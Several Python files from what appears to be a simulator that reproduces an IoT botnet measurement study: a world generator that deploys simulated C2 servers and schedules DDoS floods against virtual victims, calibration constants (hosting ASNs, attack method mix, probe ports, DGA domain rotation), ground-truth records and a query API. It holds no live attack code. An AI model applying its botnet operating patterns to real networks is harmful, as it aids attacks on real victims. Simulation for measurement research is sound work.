            campaign = Campaign(family=family_name, variant=variant,
                                c2=deployment)
            self._build_campaign_samples(
                campaign, size, armed_bias=cal.EXPLOIT_ARMED_FRACTION
            )
            self.truth.campaigns.append(campaign)

    def _submit_chaff(self) -> None:
        """Non-MIPS noise in the feeds (the collector must filter it).

        Real feeds deliver binaries for every architecture plus corrupt
        uploads; MalNet keeps only MIPS 32B ELF files (section 2.2).  One
        chaff artifact per ~8 real samples keeps the filter honest.
        """
        from ..binary.builder import build_chaff

        count = max(4, self.scale.total_samples // 8)
        kinds = ("arm", "x86", "junk", "truncated")
        for index in range(count):
            data = build_chaff(self.rng, kinds[index % len(kinds)])
            week = self._weighted_choice(self._week_volume_weights())
            when = cal.week_start(week) + self.rng.uniform(0, 7) * SECONDS_PER_DAY
            from ..binary.builder import MalwareSample

            # wrapped as a feed upload; the family field is a placeholder —
            # the collector's MIPS filter drops chaff before any labeling
            fake = MalwareSample(data=data, config=BotConfig(family="mirai"),
                                 family="mirai", variant="chaff")
            self.vt.submit_sample(fake, when)
            self.truth.chaff_hashes.add(fake.sha256)

    # -- attack plan ----------------------------------------------------------------------

    def _attack_asns_by_country(self) -> dict[str, list[int]]:
        by_country: dict[str, list[int]] = {}
        for record in self.asdb.records.values():
            by_country.setdefault(record.country, []).append(record.asn)
        return by_country

    def _victim_pool(self) -> list[tuple[int, int, str, str]]:
        """(address, asn, kind, country) victims matching section 5.3."""
        victims = []
        candidates = list(self.asdb.records.values())
        gaming = [r for r in candidates if r.specialization == "gaming"]
        pool_size = 30
        # deterministic kind mix (section 5.3): 45% ISP, 36% hosting,
        # 19% business; ~18% of the pool gaming-specialized
        quota = {
            "isp": round(0.45 * pool_size),
            "hosting": round(0.36 * pool_size),
            "business": pool_size - round(0.45 * pool_size)
                        - round(0.36 * pool_size),
        }
        gaming_quota = round(0.18 * pool_size)
        for kind, want in quota.items():
            for _ in range(want):
                pool = [r for r in candidates if r.kind == kind]
                use_gaming = (gaming_quota > 0
                              and any(r.kind == kind for r in gaming))
                if use_gaming and self.rng.random() < 0.5:
                    record = self.rng.choice([r for r in gaming
                                              if r.kind == kind])
                    gaming_quota -= 1
                else:
                    record = self.rng.choice(pool)
                address = self.asdb.allocate_address(
                    record.asn, self.allocator, self.rng)
                victims.append(
                    (address, record.asn, record.kind, record.country))
        self.rng.shuffle(victims)
        return victims

    def _attack_port(self, method: str) -> int:
        if method == "dns":
            return 53
        if method == "nfo":
            return 238
        if method == "blacknurse":
            return 0
        # fixed-port methods (dns/nfo/blacknurse) cover ~1/4 of the plan;
        # scale the web-port shares up so the *overall* attack mix hits
        # the paper's 21% port-80 / 7% port-443
        eligible_fraction = 32 / 42
        pick = self.rng.random() * eligible_fraction
        if pick < cal.PORT80_SHARE:
            return 80
        if pick < cal.PORT80_SHARE + cal.PORT443_SHARE:
            return 443
        return self.rng.choice((4567, 27015, 61613, 9307, 37777, 8888))

    def _plan_attack_campaigns(self) -> None:
        by_country = self._attack_asns_by_country()
        plan = [
            (family, method)
            for family, method, count in cal.ATTACK_METHOD_PLAN
            for _ in range(count)
        ]
        self.rng.shuffle(plan)
        # stand up the attack C2s: longer-lived, country mix US/NL/CZ-heavy
        deployments: dict[str, list[C2Deployment]] = {f: [] for f in
                                                      ATTACK_FAMILIES}
        campaigns: dict[int, Campaign] = {}
        count_per_family = {
            "mirai": 7, "gafgyt": 3, "daddyl33t": 7,
        }
        week_pool = list(range(3, cal.ACTIVE_WEEKS))
        country_cursor = 0
        for family, how_many in count_per_family.items():
            fam = get_family(family)
            for index in range(how_many):
                # deterministic round-robin over the country mix: the 17
                # attack C2s land 7/9 in US/NL/CZ, so ~80% of attacks
                # issue from there regardless of seed (section 5)
                country = cal.ATTACK_C2_COUNTRIES[
                    country_cursor % len(cal.ATTACK_C2_COUNTRIES)]
                country_cursor += 1
                asns = by_country.get(country) or list(self.asdb.records)
                variant = fam.variants[index % len(fam.variants)]
                week = self.rng.choice(week_pool)
                deployment = self._deploy_c2(
                    family, variant, week,
                    lifetime_days=self.rng.uniform(*cal.ATTACK_C2_LIFETIME_DAYS),
                    asn=self.rng.choice(asns),
                    is_attack=True,
                )
                deployments[family].append(deployment)
                campaign = Campaign(family=family, variant=variant,
                                    c2=deployment)
                self._build_campaign_samples(campaign, size=2, armed_bias=0.3)
                self.truth.campaigns.append(campaign)
                campaigns[deployment.address] = campaign

        victims = self._victim_pool()
        method_counts: dict[str, int] = {}
        for _family, method, count in cal.ATTACK_METHOD_PLAN:
            method_counts[method] = method_counts.get(method, 0) + count
        #: (c2 address, analysis day) -> last (victim, method) — used to
        #: re-attack the same target with a second type in one session
        last_session: dict[tuple[int, float], tuple] = {}
        carrier_cache: dict[int, object] = {}
        for family, method in plan:
            options = deployments[family]
            deployment = self.rng.choice(options)
            campaign = campaigns[deployment.address]
            if not campaign.samples:
                continue
            # schedule the attack during the listening window of a sample
            # that will actually activate under emulation — otherwise the
            # command fires with nobody connected and is unobservable by
            # construction (the real study, too, only saw attacks that
            # happened while a bot it ran was connected)
            from ..sandbox.qemu import MipsEmulator

            carrier = carrier_cache.get(deployment.address)
            if carrier is None:
                checker = MipsEmulator(random.Random(0))
                activating = [s for s in campaign.samples
                              if checker.activates(s.sample.sha256)]
                carrier = self.rng.choice(activating or campaign.samples)
                carrier_cache[deployment.address] = carrier
            # anchor to the first feed appearance: the pipeline analyzes a
            # sample the day it surfaces on EITHER feed
            published_times = []
            vt_entry = self.vt.lookup_hash(carrier.sample.sha256)
            if vt_entry is not None:
                published_times.append(vt_entry.published)
            mb_entry = self.bazaar.lookup_hash(carrier.sample.sha256)
            if mb_entry is not None:
                published_times.append(mb_entry.published)
            published = min(published_times) if published_times else carrier.submit_time
            day_start = (int((published - STUDY_EPOCH) // SECONDS_PER_DAY)
                         * SECONDS_PER_DAY + STUDY_EPOCH)
            # rare attack types (one or two planned instances) fire early
            # in the listening window so a single carrier suffices to
            # observe them — losing the only NFO/VSE/STD to bad timing
            # would wipe an entire Figure 11 category
            if method_counts.get(method, 0) <= 2:
                latest = min(600.0, self.scale.observe_duration / 3)
            else:
                latest = max(60.0, self.scale.observe_duration - 120.0)
            when = (day_start + ANALYSIS_HOUR_OFFSET
                    + self.rng.uniform(30.0, latest))
            # "one target hit by multiple attacks": with some probability
            # re-attack this session's previous target with a new type
            session_key = (deployment.address, day_start)
            previous = last_session.get(session_key)
            if (previous is not None and previous[1] != method
                    and self.rng.random() < 2 * cal.DOUBLE_ATTACK_TARGET_SHARE):
                address, asn, kind, country = previous[0]
            else:
                address, asn, kind, country = self.rng.choice(victims)
            last_session[session_key] = ((address, asn, kind, country), method)
            # attack operators keep the server up through the attack: if a
            # late carrier pushes the command past the planned lifetime,
            # stretch the deployment (attack C2s live longest, section 5)
            needed_until = when + self.scale.observe_duration + 3600.0
            needed_from = when - self.scale.observe_duration - 3600.0
            if (needed_until > deployment.online_until
                    or needed_from < deployment.online_from):
                deployment.online_from = min(deployment.online_from, needed_from)
                deployment.online_until = max(deployment.online_until, needed_until)
                host = self.internet.host(deployment.address)
                host.set_lifetime(deployment.online_from, deployment.online_until)
            real_method = "udp" if method == "dns" else method
            command = AttackCommand(
                method=real_method, target_ip=address,
                target_port=self._attack_port(method),
                duration=self.rng.choice((60, 120, 300)),
            )
            deployment.server.schedule_attack(when, command)
            self.truth.attacks.append(
                PlannedAttack(c2=deployment, command=command, when=when,
                              target_asn=asn, target_kind=kind,
                              target_country=country)
            )

    # -- threat intel registration ------------------------------------------------------

    def _register_intel(self) -> None:
        first_seen: dict[str, float] = {}
        for planned in self.truth.all_samples:
            if planned.c2 is None:
                continue
            endpoint = planned.c2.endpoint
            current = first_seen.get(endpoint)
            if current is None or planned.submit_time < current:
                first_seen[endpoint] = planned.submit_time
        for deployment in self.truth.deployments:
            when = first_seen.get(deployment.endpoint, deployment.online_from)
            self.vt.register_ioc(IocIntel(
                ioc=deployment.endpoint,
                first_public=when,
                obscurity=deployment.obscurity,
                publicity_delay_days=deployment.publicity_delay_days,
            ))
        for address in self.truth.downloader_only_addresses:
            self.vt.register_ioc(IocIntel(
                ioc=int_to_ip(address),
                first_public=STUDY_EPOCH,
                obscurity=self.rng.uniform(0.2, 1.0),
                publicity_delay_days=0.0,
            ))

    # -- D-PC2 probing world -----------------------------------------------------------

    def _plan_probing_world(self, world: World) -> None:
        """Six probe-able /24s with 7 elusive C2s and benign decoys."""
        probe_week = min(10, cal.ACTIVE_WEEKS)
        world.probe_start = cal.week_start(probe_week)
        probe_end = world.probe_start + (self.scale.probe_days + 2) * SECONDS_PER_DAY
        subnets: list[Subnet] = []
        top_asns = [record.asn for record in TOP_C2_ASES[:6]]
        for asn in top_asns:
            prefix = self.asdb.prefixes_for(asn)[0]
            # carve a /24 out of the AS's /16
            slash24 = Subnet(prefix.network | (self.rng.randrange(256) << 8), 24)
            subnets.append(slash24)
        self.truth.probe_subnets = subnets
        families = ["gafgyt", "gafgyt", "gafgyt", "gafgyt",
                    "mirai", "mirai", "mirai"][: cal.PROBED_C2_COUNT]
        for index, family in enumerate(families):
            subnet = subnets[index % len(subnets)]
            address = self.allocator.allocate(subnet)
            port = self.rng.choice(cal.PROBE_PORTS)
            host = self.internet.add_host(address, name=f"probed-c2-{index}")
            host.set_lifetime(world.probe_start - SECONDS_PER_DAY, probe_end)
            model = ResponsivenessModel(
                seed=self.seed * 1000 + index,
                p_open=cal.PROBED_P_OPEN,
                p_stay_open=cal.PROBED_P_STAY,
                origin=world.probe_start,
            )
            server = C2Server(get_family(family),
                              random.Random(self.rng.getrandbits(32)))
            host.bind(Listener(port=port, protocol=Protocol.TCP,
                               service=server, accepts=model.is_open))
            deployment = C2Deployment(
                address=address, port=port, family=family,
                variant=get_family(family).variants[0],
                asn=top_asns[index % len(top_asns)],
                online_from=world.probe_start - SECONDS_PER_DAY,
                online_until=probe_end, server=server,
                obscurity=self.rng.uniform(0.3, 1.2),
                publicity_delay_days=self.rng.uniform(0.0, 10.0),
                is_probed=True,
            )
            self.truth.probed_deployments.append(deployment)
            self.truth.deployments.append(deployment)
            self.vt.register_ioc(IocIntel(
                ioc=deployment.endpoint, first_public=world.probe_start,
                obscurity=deployment.obscurity,
                publicity_delay_days=deployment.publicity_delay_days,
            ))
        # benign decoys: live web servers with well-known banners, which the
        # probing methodology must filter out (section 2.6)
        for subnet in subnets:
            for _ in range(2):
                address = self.allocator.allocate(subnet)
                host = self.internet.add_host(address, name="decoy-web")
                service = DownloaderHttp()
                host.bind(Listener(
                    port=self.rng.choice(cal.PROBE_PORTS),
                    protocol=Protocol.TCP, service=service,
                    banner=b"HTTP/1.0 200 OK\r\nServer: Apache/2.4.41\r\n\r\n",
                ))


def generate_world(seed: int = cal.DEFAULT_SEED,
                   scale: cal.StudyScale | None = None) -> World:
    """Convenience one-call world construction."""
    return WorldGenerator(seed, scale).generate()
