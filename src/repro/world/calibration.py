"""Paper-derived constants in one place.

Every number here traces to a statement in the paper; the world generator
consumes these so that the *measured* outputs of the pipeline land in the
paper's ballpark.  Changing a constant here is how the ablation benches
explore "what if the world were different".
"""

from __future__ import annotations

from dataclasses import dataclass

from ..netsim.internet import SECONDS_PER_DAY, STUDY_EPOCH

#: Default experiment seed (the paper's collection started 2022-03-22 is
#: not meaningful here; this is just a stable default).
DEFAULT_SEED = 20220322

#: Total samples collected over the year (Table 1).
TOTAL_SAMPLES = 1447

#: The study spans 31 active collection weeks (Figure 1 / Appendix E).
ACTIVE_WEEKS = 31

#: Appendix E's mapping from study week (1-based) to (year, iso week).
WEEK_DATES: dict[int, tuple[int, int]] = {}
for _study_week in range(1, 32):
    if _study_week == 1:
        WEEK_DATES[_study_week] = (2021, 14)
    elif 2 <= _study_week <= 11:
        WEEK_DATES[_study_week] = (2021, 24 + (_study_week - 2))
    elif 12 <= _study_week <= 20:
        WEEK_DATES[_study_week] = (2021, 44 + (_study_week - 12))
    else:
        WEEK_DATES[_study_week] = (2022, 2 + (_study_week - 21))

#: Simulated-time offset of each active study week from the epoch.  We lay
#: the 31 active weeks on consecutive simulated weeks 0..30 and keep the
#: calendar mapping above for reporting.
def week_start(study_week: int) -> float:
    """Simulation time at which active study week (1-based) begins."""
    if not 1 <= study_week <= ACTIVE_WEEKS:
        raise ValueError(f"study week out of range: {study_week}")
    return STUDY_EPOCH + (study_week - 1) * 7 * SECONDS_PER_DAY

#: Query date for the second TI measurement: "May 7th 2022" — after the
#: last active week (week 31 ends at epoch + 31 weeks; we add 8 weeks).
MAY_7_2022 = STUDY_EPOCH + (ACTIVE_WEEKS + 8) * 7 * SECONDS_PER_DAY

#: Family mix of the collected samples (paper lists the families in
#: Table 1 but not their proportions; Mirai/Gafgyt dominance and a
#: substantial Mozi share follow the ecosystem reports it cites).
FAMILY_MIX: tuple[tuple[str, float], ...] = (
    ("mirai", 0.40),
    ("gafgyt", 0.28),
    ("mozi", 0.13),
    ("tsunami", 0.07),
    ("daddyl33t", 0.06),
    ("hajime", 0.03),
    ("vpnfilter", 0.03),
)

#: Fraction of C2 endpoints that are domain names rather than IPs.
#: Derived from Table 3: 15.3 = f*57.6 + (1-f)*13.3  =>  f ~ 4.5%.
DNS_C2_FRACTION = 0.06

#: Distribution of samples-per-campaign (Figure 5's reuse CDF): ~40% of
#: C2s serve one binary, ~20% serve more than ten.
CAMPAIGN_SIZES: tuple[tuple[int, float], ...] = (
    (1, 0.40), (2, 0.11), (3, 0.07), (4, 0.05), (5, 0.05),
    (7, 0.05), (9, 0.04), (11, 0.07), (13, 0.06), (15, 0.06),
    (17, 0.04),
)

#: C2 server lifetime (days online): genuinely short — this drives the
#: 60% dead-on-arrival rate of section 3.2 (feed latency of up to a day
#: plus next-noon analysis outlives most servers).
LIFETIME_BUCKETS: tuple[tuple[float, float, float], ...] = (
    # (low_days, high_days, probability)
    (0.08, 0.5, 0.65),
    (0.5, 1.5, 0.24),
    (1.5, 8.0, 0.08),
    (8.0, 30.0, 0.03),
)

#: Referral spread: over how many days a campaign's binaries surface.
#: This IS the observed-lifespan distribution of Figure 2: ~80% of C2s
#: are referred within a single day; the tail stretches to ~40 days and
#: pulls the mean to ~4 days.
SPREAD_BUCKETS: tuple[tuple[float, float, float], ...] = (
    (0.0, 0.7, 0.78),
    (2.0, 10.0, 0.06),
    (12.0, 35.0, 0.10),
    (35.0, 48.0, 0.06),
)

#: Share of C2s hosted in the top-10 ASes (section 3.1: 69.7%).
TOP10_AS_SHARE = 0.75

#: Relative weights of the top-10 ASes (Figure 1's dark rows: the top
#: four are consistently more active).
TOP10_AS_WEIGHTS: tuple[tuple[int, float], ...] = (
    (36352, 0.22),   # ColoCrossing
    (211252, 0.17),  # Delis LLC
    (14061, 0.15),   # DigitalOcean
    (53667, 0.13),   # FranTech
    (202306, 0.08),  # HOSTGLOBAL
    (399471, 0.07),  # Serverion
    (16276, 0.05),   # OVH
    (44812, 0.05),   # IP SERVER (spikes near week 28)
    (139884, 0.04),  # Apeiron (spikes near week 28)
    (50673, 0.04),   # Serverius
)

#: TI obscurity model (see repro.intel.vendors): IP-based C2s draw
#: obscurity U(0, IP_OBSCURITY_MAX); DNS C2s get an extra shift.
IP_OBSCURITY_MAX = 1.01
DNS_OBSCURITY_SHIFT = 0.40
#: probability the endpoint is known to feeds the same day it surfaces
SAME_DAY_PUBLICITY_IP = 0.95
SAME_DAY_PUBLICITY_DNS = 0.65
#: mean days of feed lag when not same-day
PUBLICITY_LAG_MEAN_DAYS = 12.0

#: Exploit arsenal: probability a (non-P2P) sample carries exploits at all
#: — Table 1: 197 of 1447 samples yielded exploits.
EXPLOIT_ARMED_FRACTION = 0.175

#: DDoS attack plan (section 5): 42 commands over 6 variants and 17 C2s.
ATTACK_COMMAND_COUNT = 42
ATTACK_C2_COUNT = 17
#: method mix chosen to reproduce Figures 10 and 11 (see DESIGN.md).
ATTACK_METHOD_PLAN: tuple[tuple[str, str, int], ...] = (
    # (family, method, count)
    ("mirai", "udp", 12),
    ("mirai", "syn", 3),
    ("mirai", "tls", 1),
    ("mirai", "stomp", 1),
    ("mirai", "dns", 2),        # udp flood aimed at port 53
    ("gafgyt", "udp", 4),
    ("gafgyt", "std", 1),
    ("gafgyt", "vse", 1),
    ("daddyl33t", "udpraw", 7),
    ("daddyl33t", "hydrasyn", 3),
    ("daddyl33t", "tls", 3),
    ("daddyl33t", "blacknurse", 3),
    ("daddyl33t", "nfo", 1),
)

#: attack-launching C2s live ~10 days (section 5) vs the 4-day average
ATTACK_C2_LIFETIME_DAYS = (8.0, 14.0)
#: countries of attack C2s: USA/NL/CZ issue 80% of attacks (section 5)
ATTACK_C2_COUNTRIES = ("US", "US", "US", "NL", "NL", "CZ", "CZ", "RU", "DE")

#: victim mix (section 5.3): 45% ISP ASes, 36% hosting, rest business;
#: 21% of attacks hit port 80, 7% port 443.
VICTIM_KIND_MIX = (("isp", 0.45), ("hosting", 0.36), ("business", 0.19))
PORT80_SHARE = 0.21
PORT443_SHARE = 0.07
#: 25% of targets are hit by two different attack types in one session
DOUBLE_ATTACK_TARGET_SHARE = 0.25

#: D-PC2 probing campaign (section 2.3b, Table 5, Appendix B).
PROBE_PORTS = (1312, 666, 1791, 9506, 606, 6738, 5555, 1014, 3074, 6969,
               42516, 81)
PROBE_SUBNET_COUNT = 6
PROBE_DAYS = 14
PROBE_INTERVAL_HOURS = 4
PROBED_C2_COUNT = 7

#: responsiveness of probed C2s (section 3.2: 91% no-repeat after success)
PROBED_P_OPEN = 0.28
PROBED_P_STAY = 0.09

#: downloader servers: 47 distinct addresses, 12 of them NOT also C2s,
#: all serving on port 80 (section 3.1).
DOWNLOADER_TOTAL = 47
DOWNLOADER_NOT_C2 = 12
DOWNLOADER_PORT = 80

#: DGA scenario (opt-in via StudyScale.dga; ROADMAP item 3).  Endpoint
#: churn dominates evasion in the wild ("Analyzing Endpoints in the
#: Internet of Things Malware"), so a sizable minority of DGA-capable
#: campaigns rotates domains instead of pinning one endpoint.
DGA_CAMPAIGN_FRACTION = 0.35
#: registrar-won candidates actually registered per day (of the family's
#: daily_candidates); operators pre-register only a couple of names
DGA_REGISTERED_PER_DAY = 2
#: per-candidate probability the operator wins the registration race
DGA_REGISTER_RATE = 0.5
#: extra server "generations" stood up after each takedown (inclusive)
DGA_EXTRA_GENERATIONS = (1, 3)
#: lifetime of each replacement generation (days, uniform)
DGA_GENERATION_DAYS = (1.0, 4.0)


@dataclass
class StudyScale:
    """Knobs to shrink the study for tests and smoke runs."""

    sample_fraction: float = 1.0
    probe_days: int = PROBE_DAYS
    observe_duration: float = 2 * 3600.0
    observe_poll_interval: float = 300.0
    scan_budget: int = 260
    #: fraction of generated samples built for ARM instead of MIPS
    #: (0.0 reproduces the paper's MIPS-only corpus; §6d extension)
    arm_fraction: float = 0.0
    #: backbone capture cap for this scale (packets kept before the
    #: internet starts counting ``backbone_dropped``); None = unbounded
    backbone_limit: int | None = 20_000
    #: opt-in DGA + defender co-simulation (``--dga``); off keeps the
    #: golden digests byte-identical because no extra RNG draws happen
    dga: bool = False

    @property
    def total_samples(self) -> int:
        return max(8, int(TOTAL_SAMPLES * self.sample_fraction))


FULL_SCALE = StudyScale()
SMOKE_SCALE = StudyScale(
    sample_fraction=0.05, probe_days=4, observe_duration=1800.0,
    observe_poll_interval=300.0, scan_budget=120,
)
#: ~10x the smoke corpus: the columnar-core stress scale.  Smoke-sized
#: probe/observe windows keep wall-clock in CI range while the sample
#: count (and hence packet volume) grows an order of magnitude; the
#: backbone cap is widened to match the bigger world.
XL_SCALE = StudyScale(
    sample_fraction=0.5, probe_days=4, observe_duration=1800.0,
    observe_poll_interval=300.0, scan_budget=120, backbone_limit=60_000,
)
