"""Ground-truth world generation, calibrated to the paper's findings."""

from . import calibration
from .calibration import (
    DEFAULT_SEED,
    FULL_SCALE,
    SMOKE_SCALE,
    XL_SCALE,
    StudyScale,
)
from .generator import World, WorldGenerator, generate_world
from .model import (
    C2Deployment,
    Campaign,
    GroundTruth,
    PlannedAttack,
    PlannedSample,
)

__all__ = [
    "C2Deployment",
    "Campaign",
    "DEFAULT_SEED",
    "FULL_SCALE",
    "GroundTruth",
    "PlannedAttack",
    "PlannedSample",
    "SMOKE_SCALE",
    "StudyScale",
    "World",
    "WorldGenerator",
    "XL_SCALE",
    "calibration",
    "generate_world",
]
