"""Ground-truth dataclasses for the generated world.

These records are what *actually happened* in the closed world.  The
MalNet pipeline never reads them — it measures through the sandbox and
the feeds — but benchmarks compare pipeline output against them, and the
generator uses them for bookkeeping.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..binary.builder import MalwareSample
from ..botnet.c2server import C2Server
from ..botnet.protocols.base import AttackCommand


@dataclass
class C2Deployment:
    """One C2 server stood up in the virtual Internet."""

    address: int
    port: int
    family: str
    variant: str
    asn: int
    domain: str | None = None          # set for DNS-named C2s
    online_from: float = 0.0
    online_until: float = 0.0
    server: C2Server | None = field(default=None, repr=False)
    obscurity: float = 0.5
    publicity_delay_days: float = 0.0
    is_attack_c2: bool = False
    is_probed: bool = False
    downloader_colocated: bool = True
    # -- DGA scenario (StudyScale.dga) -----------------------------------
    #: rotates generated domains instead of pinning one endpoint
    dga: bool = False
    #: 32-bit schedule seed embedded in this campaign's bot configs
    dga_seed: int = 0
    #: successive server addresses as (address, online_from, online_until);
    #: each replaces the previous one after its takedown
    generations: list[tuple[int, float, float]] = field(default_factory=list)
    #: registrar-won names actually registered, as (day, domain)
    dga_domains: list[tuple[int, str]] = field(default_factory=list)

    @property
    def endpoint(self) -> str:
        """The IoC string binaries embed (domain when one exists)."""
        from ..netsim.addresses import int_to_ip

        return self.domain or int_to_ip(self.address)

    @property
    def lifetime_days(self) -> float:
        return (self.online_until - self.online_from) / 86400.0


@dataclass
class PlannedSample:
    """One generated malware binary and its fate in the feeds."""

    sample: MalwareSample
    submit_time: float
    c2: C2Deployment | None           # None for P2P samples
    submitted_to_vt: bool = True
    submitted_to_bazaar: bool = False


@dataclass
class PlannedAttack:
    """One scheduled DDoS command (ground truth)."""

    c2: C2Deployment
    command: AttackCommand
    when: float
    target_asn: int
    target_kind: str                  # "isp" | "hosting" | "business"
    target_country: str


@dataclass
class Campaign:
    """A malware campaign: one C2 (or P2P swarm) plus its binaries."""

    family: str
    variant: str
    c2: C2Deployment | None
    samples: list[PlannedSample] = field(default_factory=list)
    #: days over which this campaign's binaries surface in the feeds
    spread_days: float | None = None


@dataclass
class GroundTruth:
    """Everything the generator created, for benchmark comparison."""

    campaigns: list[Campaign] = field(default_factory=list)
    deployments: list[C2Deployment] = field(default_factory=list)
    attacks: list[PlannedAttack] = field(default_factory=list)
    probed_deployments: list[C2Deployment] = field(default_factory=list)
    downloader_only_addresses: list[int] = field(default_factory=list)
    probe_subnets: list = field(default_factory=list)
    #: sha256 of non-MIPS feed noise the collector must drop
    chaff_hashes: set[str] = field(default_factory=set)

    @property
    def all_samples(self) -> list[PlannedSample]:
        return [s for c in self.campaigns for s in c.samples]

    @property
    def c2_samples(self) -> list[PlannedSample]:
        return [s for s in self.all_samples if s.c2 is not None]

    def deployment_for(self, endpoint: str) -> C2Deployment | None:
        for deployment in self.deployments:
            if deployment.endpoint == endpoint:
                return deployment
        return None
