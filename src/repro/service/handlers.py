"""Route table of the query API.

:class:`ServiceApi` maps ``(method, path, query, body)`` to a
``(status, content_type, body_bytes)`` triple; it knows nothing about
sockets, so tests can exercise every route without binding a port.  The
HTTP plumbing in :mod:`repro.service.server` is a thin adapter around
:meth:`ServiceApi.handle`.

Routes::

    GET  /                  route index
    GET  /healthz           liveness probe
    GET  /status            study progress + manifest document
    GET  /digest            canonical dataset digest (byte-identity oracle)
    GET  /profiles          profile summaries (?day=N, ?limit=N)
    GET  /profiles/<sha256> one full binary profile (404 on unknown hash)
    GET  /c2                D-C2s records
    GET  /c2/lifespans      C2 lifespan CDFs (ip + dns, Figure 6)
    GET  /summary/ddos      D-DDOS rollup (Figure 10/11 inputs)
    GET  /summary/exploits  measured Table 4 rows
    GET  /rules             firewall rule feed, text/plain (?technology=...)
    GET  /metrics           Prometheus exposition of the live registry
    POST /ingest/day        ingest N more feed days (?days=N | "all")
    POST /finalize          TI re-query + shard merge + probing (idempotent)

Every JSON error body is ``{"error": ...}``; the request counter
``service_requests_total{route,code}`` uses the route *patterns* above,
so cardinality stays bounded no matter how many hashes are queried.

The read-mostly artifact routes (:data:`CACHEABLE_ROUTES`) are
ETag-validated: responses carry an ``ETag`` derived from (study
fingerprint, days ingested, finalized) — see
:meth:`StudyService.etag <repro.service.server.StudyService.etag>` —
and a request presenting it back via ``If-None-Match`` is answered
``304 Not Modified`` with an empty body *before* the handler runs, so
a revalidation costs neither serialization nor dataset traversal.
``service_cache_total{result=hit|miss}`` counts both outcomes.
"""

from __future__ import annotations

import json

from ..core.c2_analysis import lifetime_cdf
from ..core.ddos_analysis import (attacks_per_family, protocol_distribution,
                                  type_by_family)
from ..core.exploit_analysis import table4
from ..core.firewall import compile_rules
from ..obs.exporters import to_prometheus
from .serialization import (c2_doc, cdf_doc, ddos_doc, encode,
                            exploit_usage_doc, profile_doc, summary_doc)

__all__ = ["CACHEABLE_ROUTES", "ServiceApi", "RULE_TECHNOLOGIES"]

RULE_TECHNOLOGIES = ("iptables", "dnsmasq", "snort")

#: route patterns whose responses are pure functions of the service
#: etag — everything derived from the datasets, nothing live like
#: /status (progress) or /metrics (counters move on every request)
CACHEABLE_ROUTES = frozenset({
    "/digest", "/profiles", "/profiles/:sha256", "/c2", "/c2/lifespans",
    "/summary/ddos", "/summary/exploits", "/rules",
})

_JSON = "application/json"
_TEXT = "text/plain; charset=utf-8"


def _error(status: int, message: str) -> tuple[int, str, bytes]:
    return status, _JSON, encode({"error": message})


class ServiceApi:
    """Socket-free request dispatch over one :class:`StudyService`."""

    def __init__(self, service):
        self.service = service
        self._requests = service.telemetry.metrics.counter(
            "service_requests_total",
            "query API requests by route pattern and status code",
            labelnames=("route", "code"))
        self._cache = service.telemetry.metrics.counter(
            "service_cache_total",
            "ETag revalidations on cacheable routes: hit = 304 served "
            "without running the handler, miss = full response built",
            labelnames=("result",))

    # -- dispatch ----------------------------------------------------------

    @staticmethod
    def _route_pattern(path: str) -> str:
        """The bounded-cardinality route pattern for a concrete path."""
        parts = [p for p in path.split("/") if p]
        if len(parts) == 2 and parts[0] == "profiles":
            return "/profiles/:sha256"
        return "/" + "/".join(parts) if parts else "/"

    def handle(self, method: str, path: str, query: dict,
               body: bytes = b"", headers: dict | None = None,
               ) -> tuple[int, str, bytes, dict]:
        """One request in, ``(status, content_type, body, headers)`` out.

        ``query`` maps parameter names to their *last* value (plain
        strings, not lists); ``headers`` are the request headers (only
        ``If-None-Match`` is consulted).  Never raises: unexpected
        handler failures become a 500 with the exception text.

        The etag is sampled *before* dispatch; an ingest racing a read
        can therefore tag a response with the just-staled validator,
        which only costs the client one extra revalidation — it can
        never serve stale bytes as fresh.
        """
        path = "/" + path.strip("/")
        etag = None
        if method == "GET" and self._route_pattern(path) in CACHEABLE_ROUTES:
            etag = self.service.etag()
            if headers and headers.get("If-None-Match") == etag:
                self._cache.labels(result="hit").inc()
                self._requests.labels(route=self._route_pattern(path),
                                      code="304").inc()
                return 304, _JSON, b"", {"ETag": etag}
            self._cache.labels(result="miss").inc()
        route, response = self._dispatch(method, path, query, body)
        self._requests.labels(route=route, code=str(response[0])).inc()
        status, content_type, payload = response
        out_headers = {}
        if etag is not None and status == 200:
            out_headers["ETag"] = etag
        return status, content_type, payload, out_headers

    def _dispatch(self, method, path, query, body):
        path = "/" + path.strip("/")
        parts = [p for p in path.split("/") if p]
        try:
            if path == "/":
                return "/", self._get_only(method, self._index)
            if path == "/healthz":
                return path, self._get_only(method, self._healthz)
            if path == "/status":
                return path, self._get_only(method, self._status)
            if path == "/digest":
                return path, self._get_only(method, self._digest)
            if path == "/profiles":
                return path, self._get_only(
                    method, lambda: self._profiles(query))
            if len(parts) == 2 and parts[0] == "profiles":
                return "/profiles/:sha256", self._get_only(
                    method, lambda: self._profile(parts[1]))
            if path == "/c2":
                return path, self._get_only(method, self._c2)
            if path == "/c2/lifespans":
                return path, self._get_only(method, self._lifespans)
            if path == "/summary/ddos":
                return path, self._get_only(method, self._ddos_summary)
            if path == "/summary/exploits":
                return path, self._get_only(method, self._exploit_summary)
            if path == "/rules":
                return path, self._get_only(
                    method, lambda: self._rules(query))
            if path == "/metrics":
                return path, self._get_only(method, self._metrics)
            if path == "/ingest/day":
                if method != "POST":
                    return path, _error(405, "POST required")
                return path, self._ingest(query, body)
            if path == "/finalize":
                if method != "POST":
                    return path, _error(405, "POST required")
                return path, self._finalize()
            return "<unknown>", _error(404, f"no such route: {path}")
        except Exception as exc:  # handler bug -> 500, server stays up
            return path or "/", _error(
                500, f"{type(exc).__name__}: {exc}")

    @staticmethod
    def _get_only(method, handler):
        if method != "GET":
            return _error(405, "GET required")
        return handler()

    # -- GET routes --------------------------------------------------------

    def _index(self):
        return 200, _JSON, encode({
            "service": "repro study service",
            "routes": [
                "GET /healthz", "GET /status", "GET /digest",
                "GET /profiles?day=N&limit=N", "GET /profiles/<sha256>",
                "GET /c2", "GET /c2/lifespans",
                "GET /summary/ddos", "GET /summary/exploits",
                "GET /rules?technology=" + "|".join(RULE_TECHNOLOGIES),
                "GET /metrics",
                "POST /ingest/day?days=N|all", "POST /finalize",
            ],
        })

    def _healthz(self):
        return 200, _JSON, encode({"ok": True})

    def _status(self):
        return 200, _JSON, encode(self.service.status())

    def _digest(self):
        return 200, _JSON, encode({
            "dataset_digest": self.service.digest(),
            "finalized": self.service.finalized,
        })

    def _profiles(self, query):
        day = query.get("day")
        limit = query.get("limit")
        try:
            day = None if day is None else int(day)
            limit = None if limit is None else int(limit)
        except ValueError:
